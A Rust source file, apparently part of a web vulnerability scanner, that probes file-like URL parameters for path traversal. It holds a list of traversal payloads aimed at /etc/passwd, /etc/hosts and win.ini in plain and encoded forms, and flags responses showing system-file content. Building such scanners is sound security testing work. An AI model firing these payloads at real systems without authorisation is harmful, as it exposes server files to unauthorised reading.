//! Path traversal probe: canonical and encoded payloads into file-like
//! parameters

use crate::http::HttpClient;
use crate::models::{Finding, ProbeCategory, Severity};
use crate::signatures;

use super::{fetch, inject_param, pause, query_params, Tuning};

/// Parameter names that commonly reference files or templates
const FILE_PARAM_NAMES: &[&str] = &[
    "file", "path", "page", "doc", "document", "template", "include", "filename", "dir", "folder",
];

const PAYLOADS: &[&str] = &[
    "../../../../etc/passwd",
    "....//....//....//....//etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "../../../../etc/hosts",
    "..\\..\\..\\..\\windows\\win.ini",
];

/// Injects traversal payloads and looks for system-file content
pub async fn probe(client: &HttpClient, url: &str, tuning: &Tuning) -> Vec<Finding> {
    let mut findings = Vec::new();

    let file_params: Vec<String> = query_params(url)
        .into_iter()
        .filter(|param| {
            let lower = param.to_lowercase();
            FILE_PARAM_NAMES.iter().any(|name| lower.contains(name))
        })
        .collect();

    if file_params.is_empty() {
        return findings;
    }

    for param in &file_params {
        for payload in PAYLOADS {
            let test_url = match inject_param(url, param, payload) {
                Some(u) => u,
                None => continue,
            };
            if let Some((_, body)) = fetch(client, &test_url).await {
                if let Some(marker) =
                    signatures::match_first(&body, signatures::SYSTEM_FILE_MARKERS)
                {
                    findings.push(
                        Finding::new(url, ProbeCategory::DirectoryTraversal, Severity::Critical)
                            .with_payload(*payload)
                            .with_evidence(format!(
                                "Parameter '{param}' returned {marker} after traversal payload"
                            )),
                    );
                    return findings;
                }
            }
            pause(tuning).await;
        }
    }

    findings
}
